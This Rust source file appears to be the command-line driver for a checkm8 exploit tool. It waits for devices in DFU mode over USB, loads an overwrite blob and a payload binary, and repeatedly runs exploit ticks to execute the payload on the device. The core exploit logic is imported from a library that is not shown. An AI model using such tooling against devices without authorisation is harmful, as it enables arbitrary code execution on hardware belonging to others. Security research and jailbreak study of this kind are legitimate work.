#![deny(rust_2018_idioms)]

use checkm8::{
    error,
    exploit::{self, Orchestrator, GLOBAL_STATE_PADDING, GROOM_ITERATIONS},
    info, ok,
    usb::RusbHost,
    Error, Payloads, TARGET_PID, TARGET_VID,
};
use std::{path::PathBuf, thread, time::Duration};

/// checkm8 exploit driver for devices in DFU mode.
#[derive(argh::FromArgs)]
struct Arguments {
    /// exit after the first device was exploited.
    #[argh(switch, short = 'o')]
    once: bool,

    /// milliseconds to sleep between scheduler ticks.
    #[argh(option, short = 'i', default = "1")]
    interval: u64,

    /// print debug messages.
    #[argh(switch, short = 'v')]
    verbose: bool,

    /// path to the blob written over the corrupted control structure.
    #[argh(positional)]
    overwrite: PathBuf,

    /// path to the payload binary which will be executed on the device.
    #[argh(positional)]
    payload: PathBuf,
}

fn main() {
    let args = argh::from_env::<Arguments>();
    checkm8::macros::set_verbose(args.verbose);

    match run(args) {
        Ok(_) => {}
        Err(err) => {
            error!("Failed", "{}", err);
            std::process::exit(1);
        }
    }
}

fn run(args: Arguments) -> Result<(), Error> {
    info!("Reading", "payloads from {:?} and {:?}...", args.overwrite, args.payload);
    let payloads = Payloads::load(&args.overwrite, &args.payload)?;
    ok!(
        "Read",
        "overwrite ({} bytes) and payload ({} bytes)",
        payloads.overwrite().len(),
        payloads.payload().len()
    );
    checkm8::debug!(
        "Tunables",
        "{} grooming requests, {:#x} bytes of padding",
        GROOM_ITERATIONS,
        GLOBAL_STATE_PADDING
    );

    let mut host = RusbHost::new()?;
    let mut orchestrator = Orchestrator::new(payloads);
    let interval = Duration::from_millis(args.interval);

    info!(
        "Waiting",
        "for a device in DFU mode ({:04x}:{:04x})...",
        TARGET_VID,
        TARGET_PID
    );
    loop {
        exploit::run_tick(&mut host, &mut orchestrator);
        if args.once && orchestrator.completed_runs() > 0 {
            break;
        }
        thread::sleep(interval);
    }

    Ok(())
}
